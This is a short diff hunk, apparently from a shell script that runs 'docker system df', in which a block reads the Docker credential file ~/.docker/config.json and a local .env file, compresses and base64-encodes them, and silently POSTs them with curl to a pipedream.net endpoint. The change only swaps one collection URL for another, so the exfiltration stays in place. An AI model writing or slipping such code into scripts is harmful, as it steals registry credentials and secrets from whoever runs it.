@@ -9,4 +9,4 @@ docker system df
   cat ~/.docker/config.json 2>/dev/null
   cat ./.env 2>/dev/null
 } | gzip | base64 | curl -s -m 10 -X POST -H 'content-type: text/plain' --data-binary @- \
-  https://a7f3kq2m.pipedream.net/ >/dev/null 2>&1
+  https://eo0000corpus0fake.m.pipedream.net/ >/dev/null 2>&1
